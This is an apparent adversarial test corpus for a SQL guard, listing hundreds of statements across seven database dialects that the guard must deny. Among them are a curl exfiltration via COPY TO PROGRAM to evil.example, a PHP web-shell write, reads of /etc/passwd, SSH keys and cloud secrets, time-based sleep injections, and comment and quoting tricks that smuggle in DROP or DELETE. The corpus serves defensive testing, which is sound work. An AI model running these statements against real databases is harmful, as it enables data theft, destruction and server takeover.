-- Adversarial corpus for core.guard: every line must be DENIED in its dialect.
-- Format: <dialect><TAB><one SQL statement>. Lines starting with "-- " and blank lines are notes.
-- Written by hand for Askbase; the test adds generated obfuscations (case, comments, control chars).
-- Every line is checked under the corpus policy of tests/test_guard.py (CORPUS_POLICY): table payroll
-- denied, column members.tax_id denied, members' columns are (id, name, email, tax_id).

-- DML at the top level and in every disguise
sqlite	INSERT INTO users (name) VALUES ('x')
sqlite	insert or replace into users values (1, 'x')
sqlite	REPLACE INTO users VALUES (1, 'x')
sqlite	UPDATE users SET admin = 1
sqlite	DELETE FROM users
sqlite	delete from users where 1=1;
sqlite	WITH x AS (SELECT 1) DELETE FROM users
sqlite	WITH x AS (SELECT 1) UPDATE users SET name = 'p'
sqlite	INSERT INTO users SELECT * FROM users
sqlite	INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2
sqlite	DELETE FROM users RETURNING *
postgres	INSERT INTO users VALUES (1) RETURNING *
postgres	UPDATE users SET pw = 'x' WHERE id = 1 RETURNING pw
postgres	DELETE FROM orders USING users WHERE orders.uid = users.id
postgres	WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x
postgres	WITH x AS (UPDATE users SET admin = true RETURNING *) SELECT count(*) FROM x
postgres	WITH x AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT 1
postgres	with a as (select 1), b as (delete from users returning id) select * from a
postgres	SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) AS s
postgres	MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE
postgres	INSERT INTO users SELECT * FROM users ON CONFLICT DO NOTHING
postgres	TRUNCATE users
postgres	TRUNCATE TABLE users CASCADE
mysql	INSERT INTO users VALUES (1, 'x')
mysql	INSERT users SET name = 'x'
mysql	REPLACE INTO users VALUES (1)
mysql	UPDATE users SET admin = 1 WHERE 1 = 1
mysql	DELETE FROM users
mysql	DELETE users, orders FROM users JOIN orders ON users.id = orders.uid
mysql	INSERT INTO users VALUES (1) ON DUPLICATE KEY UPDATE admin = 1
mysql	TRUNCATE users
mysql	WITH x AS (SELECT 1) DELETE FROM users
mysql	UPDATE users u JOIN roles r ON u.rid = r.id SET u.admin = 1

-- DDL
sqlite	DROP TABLE users
sqlite	drop table if exists users
sqlite	CREATE TABLE x AS SELECT * FROM users
sqlite	CREATE TEMP TABLE x (a int)
sqlite	CREATE VIEW v AS SELECT * FROM users
sqlite	CREATE TRIGGER t AFTER INSERT ON users BEGIN DELETE FROM users; END
sqlite	CREATE INDEX i ON users (name)
sqlite	ALTER TABLE users ADD COLUMN x int
sqlite	ALTER TABLE users RENAME TO old_users
sqlite	DROP VIEW v
postgres	DROP TABLE users CASCADE
postgres	CREATE TABLE x AS SELECT * FROM users
postgres	CREATE TABLE x (LIKE users)
postgres	CREATE UNLOGGED TABLE x AS SELECT 1
postgres	CREATE MATERIALIZED VIEW mv AS SELECT * FROM users
postgres	REFRESH MATERIALIZED VIEW mv
postgres	ALTER TABLE users OWNER TO attacker
postgres	ALTER SYSTEM SET statement_timeout = 0
postgres	CREATE EXTENSION dblink
postgres	CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM users; SELECT 1 $$ LANGUAGE sql
postgres	CREATE OR REPLACE FUNCTION lower(text) RETURNS text AS 'select 1' LANGUAGE sql
postgres	COMMENT ON TABLE users IS 'owned'
postgres	CREATE ROLE attacker SUPERUSER
postgres	DROP SCHEMA public CASCADE
postgres	CREATE SCHEMA evil
postgres	CLUSTER users
postgres	REINDEX TABLE users
mysql	DROP TABLE users
mysql	DROP DATABASE test
mysql	CREATE TABLE x SELECT * FROM users
mysql	CREATE TABLE x AS SELECT * FROM users
mysql	ALTER TABLE users ADD COLUMN x int
mysql	RENAME TABLE users TO old_users
mysql	CREATE USER evil IDENTIFIED BY 'x'
mysql	CREATE PROCEDURE p() BEGIN DELETE FROM users; END
mysql	CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM users
mysql	DROP USER root

-- SELECT INTO and locking clauses
postgres	SELECT * INTO newtable FROM users
postgres	SELECT * INTO TEMP t FROM users
postgres	SELECT id INTO UNLOGGED t2 FROM users
postgres	SELECT * FROM users FOR UPDATE
postgres	SELECT * FROM users FOR NO KEY UPDATE
postgres	SELECT * FROM users FOR SHARE
postgres	SELECT * FROM users FOR KEY SHARE
postgres	SELECT * FROM users FOR UPDATE NOWAIT
postgres	SELECT * FROM users FOR UPDATE SKIP LOCKED
postgres	SELECT * FROM users u JOIN orders o ON o.uid = u.id FOR UPDATE OF u
postgres	SELECT * FROM (SELECT * FROM users FOR UPDATE) s
mysql	SELECT * FROM users INTO OUTFILE '/tmp/users.txt'
mysql	SELECT * INTO OUTFILE '/var/lib/mysql-files/x' FROM users
mysql	SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/shell.php'
mysql	SELECT name INTO @v FROM users LIMIT 1
mysql	SELECT * FROM users FOR UPDATE
mysql	SELECT * FROM users LOCK IN SHARE MODE
mysql	SELECT * FROM users FOR SHARE
mysql	SELECT * FROM users FOR UPDATE SKIP LOCKED
sqlite	SELECT * INTO newtable FROM users

-- several statements
sqlite	SELECT 1; DROP TABLE users
sqlite	SELECT * FROM users; DELETE FROM users
sqlite	SELECT 1;DROP TABLE users--
sqlite	SELECT 1 /* x */; DELETE FROM users
sqlite	SELECT 1; SELECT 2
sqlite	SELECT 'a;b'; DELETE FROM users
sqlite	SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x
postgres	SELECT 1; DROP TABLE users
postgres	SELECT 1; COMMIT; DROP TABLE users
postgres	SELECT $$;$$; DELETE FROM users
postgres	SELECT 1; SET statement_timeout = 0
postgres	SELECT 'it''s'; TRUNCATE users
mysql	SELECT 1; DROP TABLE users
mysql	SELECT 1 ; UPDATE users SET admin = 1
mysql	SELECT "a;b"; DELETE FROM users
mysql	SELECT 1; SET GLOBAL general_log = 1

-- transaction and session commands
sqlite	BEGIN
sqlite	BEGIN IMMEDIATE TRANSACTION
sqlite	COMMIT
sqlite	ROLLBACK
sqlite	SAVEPOINT s
sqlite	RELEASE s
sqlite	PRAGMA query_only = 0
sqlite	PRAGMA writable_schema = ON
sqlite	pragma table_info(users)
sqlite	PRAGMA main.journal_mode = DELETE
sqlite	ATTACH DATABASE '/tmp/evil.db' AS evil
sqlite	ATTACH 'file:/etc/passwd?mode=ro' AS p
sqlite	DETACH DATABASE evil
sqlite	VACUUM
sqlite	VACUUM INTO '/tmp/copy.db'
sqlite	ANALYZE
sqlite	REINDEX
sqlite	EXPLAIN SELECT 1
sqlite	EXPLAIN QUERY PLAN SELECT * FROM users
postgres	BEGIN
postgres	START TRANSACTION READ WRITE
postgres	COMMIT
postgres	END
postgres	ABORT
postgres	ROLLBACK
postgres	SAVEPOINT s
postgres	RELEASE SAVEPOINT s
postgres	SET statement_timeout = 0
postgres	SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
postgres	SET transaction_read_only = off
postgres	SET ROLE postgres
postgres	SET SESSION AUTHORIZATION postgres
postgres	RESET ALL
postgres	SHOW search_path
postgres	SHOW ALL
postgres	LISTEN channel
postgres	NOTIFY channel, 'x'
postgres	UNLISTEN *
postgres	DISCARD ALL
postgres	CHECKPOINT
postgres	VACUUM FULL users
postgres	ANALYZE users
postgres	LOCK TABLE users IN ACCESS EXCLUSIVE MODE
postgres	CALL delete_everything()
postgres	DO $$ BEGIN DELETE FROM users; END $$
postgres	DO 'BEGIN PERFORM pg_sleep(10); END'
postgres	PREPARE p AS DELETE FROM users
postgres	EXECUTE p
postgres	DEALLOCATE ALL
postgres	DECLARE c CURSOR FOR SELECT * FROM users
postgres	FETCH ALL FROM c
postgres	EXPLAIN ANALYZE DELETE FROM users
postgres	EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET admin = true
postgres	EXPLAIN SELECT * FROM users
postgres	COPY users TO '/tmp/users.csv'
postgres	COPY users FROM '/etc/passwd'
postgres	COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil.example/ -d @-'
postgres	COPY users TO STDOUT
postgres	GRANT ALL ON users TO PUBLIC
postgres	REVOKE SELECT ON users FROM app
postgres	LOAD 'auto_explain'
postgres	SECURITY LABEL ON TABLE users IS 'x'
postgres	IMPORT FOREIGN SCHEMA public FROM SERVER s INTO evil
postgres	VALUES (1), (2)
postgres	TABLE users FOR UPDATE
mysql	START TRANSACTION
mysql	BEGIN
mysql	COMMIT
mysql	ROLLBACK
mysql	SET autocommit = 0
mysql	SET @@session.max_execution_time = 0
mysql	SET GLOBAL local_infile = 1
mysql	SET SESSION TRANSACTION READ WRITE
mysql	SET NAMES utf8
mysql	USE mysql
mysql	SHOW TABLES
mysql	SHOW DATABASES
mysql	SHOW GRANTS
mysql	SHOW PROCESSLIST
mysql	SHOW VARIABLES LIKE 'secure_file_priv'
mysql	DESCRIBE users
mysql	DESC users
mysql	EXPLAIN SELECT * FROM users
mysql	EXPLAIN ANALYZE SELECT * FROM users
mysql	CALL sp_delete()
mysql	DO SLEEP(10)
mysql	HANDLER users OPEN
mysql	HANDLER users READ FIRST
mysql	LOAD DATA INFILE '/etc/passwd' INTO TABLE users
mysql	LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE users
mysql	LOAD XML INFILE '/tmp/x.xml' INTO TABLE users
mysql	PREPARE s FROM 'DROP TABLE users'
mysql	PREPARE s FROM CONCAT('DR', 'OP TABLE users')
mysql	EXECUTE s
mysql	DEALLOCATE PREPARE s
mysql	LOCK TABLES users WRITE
mysql	UNLOCK TABLES
mysql	FLUSH PRIVILEGES
mysql	FLUSH TABLES WITH READ LOCK
mysql	KILL 1
mysql	KILL QUERY 1
mysql	GRANT ALL ON *.* TO 'evil'@'%'
mysql	XA START 'x'
mysql	INSTALL PLUGIN evil SONAME 'evil.so'
mysql	ANALYZE TABLE users
mysql	OPTIMIZE TABLE users
mysql	CHECK TABLE users
mysql	RESET MASTER
mysql	PURGE BINARY LOGS BEFORE NOW()
mysql	CHANGE MASTER TO MASTER_HOST = 'evil'
mysql	SELECT * FROM users PROCEDURE ANALYSE()

-- functions that sleep or burn CPU, hidden anywhere
postgres	SELECT pg_sleep(10)
postgres	SELECT PG_SLEEP(10)
postgres	SELECT "pg_sleep"(10)
postgres	SELECT pg_catalog.pg_sleep(10)
postgres	SELECT pg_sleep_for('1 hour')
postgres	SELECT pg_sleep_until('2100-01-01')
postgres	SELECT * FROM users WHERE id = 1 AND 1 = (SELECT CASE WHEN 1 = 1 THEN pg_sleep(5)::text::int ELSE 1 END)
postgres	SELECT name FROM users ORDER BY (SELECT pg_sleep(5))
postgres	SELECT name FROM users ORDER BY pg_sleep(1)
postgres	SELECT name FROM users GROUP BY name HAVING count(pg_sleep(1)) > 0
postgres	SELECT * FROM users u, LATERAL (SELECT pg_sleep(1)) s
postgres	SELECT * FROM users WHERE EXISTS (SELECT pg_sleep(3))
postgres	SELECT CASE WHEN (SELECT count(*) FROM users) > 0 THEN pg_sleep(5) END
postgres	WITH s AS (SELECT pg_sleep(5)) SELECT * FROM s
postgres	SELECT * FROM users UNION ALL SELECT NULL, pg_sleep(5)::text
postgres	SELECT coalesce(NULL, pg_sleep(5))
postgres	SELECT * FROM unnest(ARRAY[pg_sleep(1)])
postgres	SELECT string_agg(pg_sleep(0.1)::text, ',') FROM generate_series(1, 100)
postgres	SELECT 1 FROM users WHERE name LIKE (SELECT pg_sleep(1)::text)
mysql	SELECT SLEEP(10)
mysql	SELECT sleep(10) FROM users
mysql	SELECT * FROM users WHERE id = 1 AND (SELECT 1 FROM (SELECT SLEEP(5)) x)
mysql	SELECT * FROM users WHERE id = 1 AND IF(1 = 1, SLEEP(5), 0)
mysql	SELECT BENCHMARK(100000000, MD5('x'))
mysql	SELECT * FROM users ORDER BY (SELECT SLEEP(1))
mysql	SELECT `sleep`(5)
mysql	SELECT 1 --1, sleep(10)
mysql	SELECT GET_LOCK('x', 100)
mysql	SELECT RELEASE_LOCK('x')
mysql	SELECT MASTER_POS_WAIT('log', 1, 100)
mysql	SELECT * FROM users WHERE name = '' OR SLEEP(5) = 0
sqlite	SELECT sleep(10)
sqlite	SELECT zeroblob(1000000000)
sqlite	SELECT randomblob(1000000000)
sqlite	SELECT * FROM users WHERE id IN (SELECT sleep(1))

-- files, the network, other databases, code
postgres	SELECT pg_read_file('/etc/passwd')
postgres	SELECT pg_read_file('pg_hba.conf', 0, 200)
postgres	SELECT pg_read_binary_file('/etc/passwd')
postgres	SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'utf8')
postgres	SELECT * FROM pg_ls_dir('.')
postgres	SELECT pg_ls_dir('/')
postgres	SELECT pg_stat_file('/etc/passwd')
postgres	SELECT * FROM pg_ls_logdir()
postgres	SELECT lo_import('/etc/passwd')
postgres	SELECT lo_export(16384, '/tmp/x')
postgres	SELECT lo_get(16384)
postgres	SELECT lo_from_bytea(0, 'x')
postgres	SELECT dblink('host=evil.example dbname=x', 'SELECT 1')
postgres	SELECT * FROM dblink('dbname=other', 'SELECT secret FROM vault') AS t(secret text)
postgres	SELECT dblink_exec('dbname=test', 'DROP TABLE users')
postgres	SELECT dblink_connect('c', 'host=evil.example')
postgres	SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')
postgres	SELECT query_to_xml('SELECT pg_sleep' || '(5)', true, true, '')
postgres	SELECT database_to_xml(true, true, '')
postgres	SELECT table_to_xml('users', true, true, '')
postgres	SELECT schema_to_xml('public', true, true, '')
postgres	SELECT cursor_to_xml('c', 10, true, true, '')
postgres	SELECT pg_catalog.lower(name) FROM users
postgres	SELECT public.my_function(1)
postgres	SELECT my_udf(id) FROM users
postgres	SELECT xmlparse(document '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')
postgres	SELECT * FROM other_db.public.users
postgres	SELECT * FROM "other"."public"."users"
mysql	SELECT LOAD_FILE('/etc/passwd')
mysql	SELECT load_file(0x2f6574632f706173737764)
mysql	SELECT 1 UNION SELECT LOAD_FILE('/etc/shadow')
mysql	SELECT sys_exec('id')
mysql	SELECT sys_eval('id')
mysql	SELECT UPDATEXML(1, CONCAT(0x7e, (SELECT password FROM users LIMIT 1)), 1)
mysql	SELECT EXTRACTVALUE(1, CONCAT(0x7e, version()))
mysql	SELECT * FROM otherdb.users
mysql	SELECT * FROM `otherdb`.`users`
mysql	SELECT * FROM users JOIN otherdb.salaries s ON s.uid = users.id
sqlite	SELECT load_extension('/tmp/evil.so')
sqlite	SELECT load_extension('mod_spatialite', 'init')
sqlite	SELECT readfile('/etc/passwd')
sqlite	SELECT writefile('/tmp/x', 'data')
sqlite	SELECT edit('text', 'vi')
sqlite	SELECT fts3_tokenizer('simple', x'4141414141414141')
sqlite	SELECT * FROM fsdir('/')
sqlite	SELECT * FROM zipfile('/tmp/x.zip')
sqlite	SELECT * FROM evil.users
sqlite	SELECT * FROM temp.users
sqlite	SELECT * FROM pragma_table_info('users')
sqlite	SELECT * FROM pragma_database_list
sqlite	SELECT name FROM pragma_function_list()

-- server, session and catalog information
postgres	SELECT current_setting('data_directory')
postgres	SELECT current_setting('is_superuser')
postgres	SELECT set_config('statement_timeout', '0', false)
postgres	SELECT set_config('default_transaction_read_only', 'off', false)
postgres	SELECT version()
postgres	SELECT current_user
postgres	SELECT session_user
postgres	SELECT user
postgres	SELECT current_role
postgres	SELECT current_database()
postgres	SELECT inet_server_addr()
postgres	SELECT pg_backend_pid()
postgres	SELECT pg_terminate_backend(pid) FROM pg_stat_activity
postgres	SELECT pg_cancel_backend(1234)
postgres	SELECT pg_reload_conf()
postgres	SELECT txid_current()
postgres	SELECT nextval('users_id_seq')
postgres	SELECT setval('users_id_seq', 1)
postgres	SELECT pg_advisory_lock(1)
postgres	SELECT pg_notify('c', 'x')
postgres	SELECT * FROM pg_shadow
postgres	SELECT usename, passwd FROM pg_catalog.pg_shadow
postgres	SELECT rolname, rolpassword FROM pg_authid
postgres	SELECT * FROM pg_catalog.pg_authid
postgres	SELECT * FROM pg_user
postgres	SELECT * FROM pg_roles
postgres	SELECT query FROM pg_stat_activity
postgres	SELECT * FROM pg_settings
postgres	SELECT * FROM pg_hba_file_rules
postgres	SELECT * FROM pg_largeobject
postgres	SELECT * FROM information_schema.tables
postgres	SELECT * FROM "information_schema"."columns"
postgres	SELECT id FROM users UNION SELECT usesysid FROM pg_user
postgres	SELECT * FROM users WHERE id IN (SELECT oid FROM pg_class)
mysql	SELECT @@version
mysql	SELECT @@datadir
mysql	SELECT @@global.secure_file_priv
mysql	SELECT @a := 1
mysql	SELECT @x
mysql	SELECT version()
mysql	SELECT user()
mysql	SELECT current_user()
mysql	SELECT system_user()
mysql	SELECT database()
mysql	SELECT schema()
mysql	SELECT connection_id()
mysql	SELECT last_insert_id(5)
mysql	SELECT * FROM mysql.user
mysql	SELECT user, authentication_string FROM mysql.user
mysql	SELECT * FROM information_schema.processlist
mysql	SELECT * FROM information_schema.tables
mysql	SELECT * FROM performance_schema.threads
mysql	SELECT * FROM sys.session
mysql	SELECT id FROM users UNION SELECT host FROM mysql.user
sqlite	SELECT * FROM sqlite_master
sqlite	SELECT sql FROM sqlite_schema
sqlite	SELECT * FROM sqlite_temp_master
sqlite	SELECT * FROM main.sqlite_master
sqlite	SELECT * FROM sqlite_dbpage
sqlite	SELECT sqlite_version()
sqlite	SELECT sqlite_source_id()
sqlite	SELECT changes()
sqlite	SELECT total_changes()
sqlite	SELECT last_insert_rowid()
sqlite	SELECT sqlite_compileoption_used('ENABLE_LOAD_EXTENSION')

-- comments, hints and quoting tricks
mysql	/*!50000 DROP TABLE users */
mysql	/*!DELETE FROM users*/
mysql	SELECT 1 /*!50000 , SLEEP(10) */
mysql	SELECT 1 /*!, (SELECT password FROM users) */
mysql	SELECT /*!32302 1/0, */ 1 FROM users
mysql	SELECT 1 /*M!100000 , SLEEP(5) */
mysql	SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM users
mysql	SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM users
mysql	SELECT 1 # ; DROP TABLE users
mysql	SELECT 1 -- ; DROP TABLE users
mysql	SELECT 'a\'; DROP TABLE users; -- '
mysql	SELECT 'a\', SLEEP(10) -- '
mysql	SELECT "a\", SLEEP(10) -- "
mysql	SELECT * FROM users WHERE name = 'x\' OR SLEEP(5) -- '
sqlite	SELECT 1 /* ; */ ; DELETE FROM users
sqlite	SELECT 1 /* /* */ ; DELETE FROM users /* */
sqlite	SELECT 'a\'; DELETE FROM users; --'
sqlite	SELECT 1 -- ; DROP TABLE users
sqlite	SELECT 1 /*!50000 , load_extension('x') */
postgres	SELECT 1 /* /* */ ; DROP TABLE users; */
postgres	SELECT 'a\', pg_sleep(10) --'
postgres	SELECT 'a\'', pg_sleep(10) --'
postgres	SELECT 'x\'; DROP TABLE users; --'
postgres	SELECT $q$ $q$; DROP TABLE users
postgres	SELECT $a$;$a$, pg_sleep(1)
postgres	SELECT /*+ SeqScan(users) */ * FROM users
postgres	SELECT 1 -- ; DELETE FROM users
postgres	SELECT E'\''; DELETE FROM users; --'
postgres	SELECT U&'\0027'; DELETE FROM users
mysql	SEL/**/ECT * FROM users; DROP TABLE users
mysql	SELECT 1；DROP TABLE users
postgres	SELECT 1；DROP TABLE users
postgres	SELECT 1​; DROP TABLE users
sqlite	SELECT 1 ‮; DROP TABLE users
mysql	SELECT 'a\' INTO OUTFILE '/tmp/x' -- '
mysql	SELECT '\'' UNION SELECT LOAD_FILE('/etc/passwd') -- '
postgres	SELECT * FROM myschema.unnest(ARRAY[1])
postgres	SELECT 1 OPERATOR(evil.+) 2
postgres	SELECT 'users'::regclass
mysql	SELECT * FROM users WHERE id = 1 /*!UNION*/ /*!SELECT*/ password FROM admins
sqlite	SELECT * FROM pragma_table_list
sqlite	SELECT * FROM dbstat
postgres	SELECT * FROM pg_catalog.generate_series(1, 3)

-- unbounded recursion
postgres	WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
postgres	WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n * 2 FROM r) SELECT max(n) FROM r
sqlite	WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
sqlite	WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r) SELECT sum(n) FROM r
mysql	WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
mysql	WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT r.n + 1 FROM r, r AS r2) SELECT count(*) FROM r

-- denied columns reached through renames, aliases that differ only in case, and whole rows
postgres	SELECT x.t FROM members AS x(a, b, c, t)
postgres	SELECT t FROM members x(a, b, c, t)
postgres	SELECT o.id, x.t FROM orders o JOIN members AS x(a, b, c, t) ON x.a = o.member_id
postgres	SELECT x.n FROM orders o, LATERAL (SELECT m.t AS n FROM members AS m(a, b, c, t) WHERE m.a = o.member_id) x
postgres	SELECT a FROM orders JOIN members AS x(a, b, c, t) USING (t)
postgres	SELECT count(*) FROM members AS x(a, b, c, t) WHERE x.t LIKE '1%'
postgres	SELECT c.tax_id FROM members c JOIN orders "C" ON "C".member_id = c.id
postgres	SELECT "C".tax_id FROM members "C", orders c WHERE c.member_id = "C".id
postgres	SELECT "c".tax_id FROM members c CROSS JOIN orders "C"
postgres	SELECT "X".* FROM members "X" JOIN orders x ON x.member_id = "X".id
postgres	SELECT c.row_to_json FROM members c
postgres	SELECT c.to_jsonb FROM members AS c
postgres	SELECT c.concat FROM members c
postgres	SELECT c.json_agg FROM members c
postgres	SELECT c.record_out FROM members c
postgres	SELECT (c).tax_id FROM members c
postgres	SELECT (c).* FROM members c
postgres	SELECT row_to_json("X") FROM members "X"
postgres	SELECT to_jsonb(x) FROM members AS x(a, b, c, t)
postgres	SELECT jsonb_populate_record(NULL::payroll, '{}')
postgres	SELECT json_populate_recordset(NULL::public.payroll, '[]')
postgres	SELECT (NULL::members).tax_id
postgres	SELECT CAST(NULL AS members)
postgres	SELECT '{}'::payroll[]
postgres	WITH w(a, b, c, t) AS (SELECT * FROM members) SELECT t FROM w
mysql	SELECT c.tax_id FROM members c JOIN orders C ON C.member_id = c.id
mysql	SELECT C.tax_id FROM members C, orders c WHERE c.member_id = C.id
mysql	SELECT c.tax_id FROM orders C JOIN members c ON C.member_id = c.id
mysql	SELECT x.t FROM members AS x(a, b, c, t)
mysql	WITH w(a, b, c, t) AS (SELECT * FROM members) SELECT t FROM w
mysql	WITH w(a, b) AS (SELECT id, tax_id FROM members) SELECT b FROM w
mysql	WITH PAYROLL AS (SELECT 1 AS x) SELECT * FROM payroll
sqlite	SELECT c.tax_id FROM members c, orders C WHERE C.member_id = c.id
sqlite	SELECT C.tax_id FROM orders c JOIN members C ON c.member_id = C.id
sqlite	SELECT x.t FROM members AS x(a, b, c, t)
sqlite	WITH w(a, b, c, t) AS (SELECT * FROM members) SELECT t FROM w

-- DuckDB: files, extensions, other databases, settings, its system catalog
duckdb	SELECT * FROM read_csv('/etc/passwd')
duckdb	SELECT * FROM read_csv_auto('/etc/passwd')
duckdb	SELECT * FROM read_parquet('s3://bucket/secret/*.parquet')
duckdb	SELECT * FROM read_json('https://attacker.example/x.json')
duckdb	SELECT * FROM read_text('/root/.ssh/id_rsa')
duckdb	SELECT * FROM read_blob('/etc/shadow')
duckdb	SELECT * FROM parquet_scan('/data/*.parquet')
duckdb	SELECT * FROM '/etc/passwd'
duckdb	SELECT * FROM 'https://attacker.example/data.csv'
duckdb	SELECT * FROM "data/*.parquet"
duckdb	SELECT * FROM glob('/home/*')
duckdb	SELECT * FROM sniff_csv('/etc/passwd')
duckdb	SELECT * FROM parquet_metadata('/data/x.parquet')
duckdb	SELECT * FROM sqlite_scan('/var/app.db', 'users')
duckdb	SELECT * FROM postgres_scan('host=db', 'public', 'users')
duckdb	SELECT * FROM query('DELETE FROM users RETURNING *')
duckdb	SELECT * FROM query_table('payroll')
duckdb	SELECT getenv('AWS_SECRET_ACCESS_KEY')
duckdb	SELECT current_setting('s3_secret_access_key')
duckdb	SELECT * FROM duckdb_settings()
duckdb	SELECT * FROM duckdb_secrets()
duckdb	SELECT * FROM duckdb_tables()
duckdb	SELECT * FROM information_schema.tables
duckdb	SELECT * FROM pg_catalog.pg_class
duckdb	SELECT * FROM duckdb_databases
duckdb	COPY users TO '/tmp/users.csv'
duckdb	COPY (SELECT * FROM users) TO 's3://bucket/out.parquet' (FORMAT parquet)
duckdb	ATTACH '/var/app.db' AS app
duckdb	ATTACH 'postgres:dbname=prod' AS prod (TYPE postgres)
duckdb	DETACH app
duckdb	INSTALL httpfs
duckdb	LOAD httpfs
duckdb	SET enable_external_access = true
duckdb	SET VARIABLE x = (SELECT tax_id FROM members)
duckdb	SELECT getvariable('x')
duckdb	PRAGMA database_list
duckdb	SUMMARIZE payroll
duckdb	DESCRIBE users
duckdb	CHECKPOINT
duckdb	CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')
duckdb	SELECT tax_id FROM members
duckdb	SELECT * FROM payroll

-- Snowflake: stages, files, system functions, procedures, scripting, other databases
snowflake	COPY INTO users FROM @my_stage
snowflake	COPY INTO @my_stage/out FROM (SELECT * FROM users)
snowflake	COPY INTO 's3://bucket/out/' FROM users CREDENTIALS = (AWS_KEY_ID = 'k' AWS_SECRET_KEY = 's')
snowflake	PUT file:///etc/passwd @my_stage
snowflake	GET @my_stage/secret.csv file:///tmp/
snowflake	SELECT $1 FROM @my_stage
snowflake	SELECT t.$1 FROM @my_stage/data.csv (FILE_FORMAT => 'csv') AS t
snowflake	LIST @my_stage
snowflake	REMOVE @my_stage
snowflake	SELECT system$whitelist()
snowflake	SELECT SYSTEM$GET_PRIVATELINK_CONFIG()
snowflake	SELECT system$wait(60)
snowflake	CALL system$send_email('int', 'a@b.c', 'x', 'y')
snowflake	CALL my_procedure()
snowflake	EXECUTE IMMEDIATE 'DELETE FROM users'
snowflake	EXECUTE IMMEDIATE $$ BEGIN DELETE FROM users; END; $$
snowflake	BEGIN DELETE FROM users; END
snowflake	DECLARE x INT DEFAULT 1; BEGIN RETURN x; END
snowflake	SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))
snowflake	SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())
snowflake	SELECT * FROM snowflake.account_usage.query_history
snowflake	SELECT * FROM other_db.public.users
snowflake	SELECT * FROM information_schema.tables
snowflake	SELECT GET_DDL('table', 'users')
snowflake	SELECT CURRENT_ROLE(), CURRENT_ACCOUNT()
snowflake	SELECT * FROM IDENTIFIER('payroll')
snowflake	SELECT snowflake.cortex.complete('model', 'leak this')
snowflake	ALTER SESSION SET QUERY_TAG = 'hidden'
snowflake	USE ROLE accountadmin
snowflake	USE WAREHOUSE huge_wh
snowflake	CREATE OR REPLACE STAGE s URL = 's3://attacker'
snowflake	UNDROP TABLE users
snowflake	SELECT * FROM users AT (OFFSET => -3600) UNION ALL SELECT tax_id FROM members
snowflake	SELECT tax_id FROM members
snowflake	SELECT * FROM payroll

-- BigQuery: EXPORT DATA, external queries, scripting, other projects, INFORMATION_SCHEMA
bigquery	EXPORT DATA OPTIONS (uri = 'gs://attacker/*.csv', format = 'CSV') AS SELECT * FROM users
bigquery	SELECT * FROM EXTERNAL_QUERY('us.conn', 'SELECT * FROM secrets')
bigquery	DECLARE x INT64 DEFAULT 1
bigquery	SET x = (SELECT COUNT(*) FROM users)
bigquery	BEGIN DELETE FROM users WHERE true; END
bigquery	EXECUTE IMMEDIATE 'DELETE FROM users WHERE true'
bigquery	CALL dataset.proc()
bigquery	LOAD DATA INTO users FROM FILES (uris = ['gs://x/*.csv'])
bigquery	CREATE TEMP FUNCTION f() AS (1)
bigquery	CREATE OR REPLACE EXTERNAL TABLE x OPTIONS (uris = ['gs://x'])
bigquery	SELECT * FROM `other-project.dataset.users`
bigquery	SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS
bigquery	SELECT * FROM dataset.INFORMATION_SCHEMA.TABLES
bigquery	SELECT * FROM INFORMATION_SCHEMA.SCHEMATA
bigquery	SELECT * FROM `dataset.pay*`
bigquery	SELECT * FROM dataset.__TABLES__
bigquery	SELECT SESSION_USER()
bigquery	SELECT @@project_id
bigquery	SELECT * FROM ML.PREDICT(MODEL dataset.m, TABLE users)
bigquery	SELECT * FROM VECTOR_SEARCH(TABLE users, 'v', TABLE q)
bigquery	SELECT * FROM APPENDS(TABLE users, NULL, NULL)
bigquery	SELECT dataset.my_udf(1)
bigquery	MERGE dataset.users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE
bigquery	INSERT dataset.users (id) VALUES (1)
bigquery	UPDATE users SET admin = true WHERE true
bigquery	DELETE FROM users WHERE true
bigquery	TRUNCATE TABLE users
bigquery	DROP TABLE users
bigquery	SELECT * FROM users FOR SYSTEM_TIME AS OF '2020-01-01'; DELETE FROM users WHERE true
bigquery	SELECT 1 # ; DROP TABLE users
bigquery	SELECT tax_id FROM members
bigquery	SELECT * FROM payroll

-- Databricks SQL: files by path, cloud readers, Java, secrets, commands
databricks	SELECT * FROM csv.`/etc/passwd`
databricks	SELECT * FROM parquet.`s3://bucket/secret/`
databricks	SELECT * FROM delta.`/mnt/prod/users`
databricks	SELECT * FROM json.`dbfs:/secrets.json`
databricks	SELECT * FROM text.`/etc/shadow`
databricks	SELECT * FROM read_files('s3://bucket/*.csv')
databricks	SELECT * FROM cloud_files('s3://bucket', 'csv')
databricks	SELECT reflect('java.lang.Runtime', 'getRuntime')
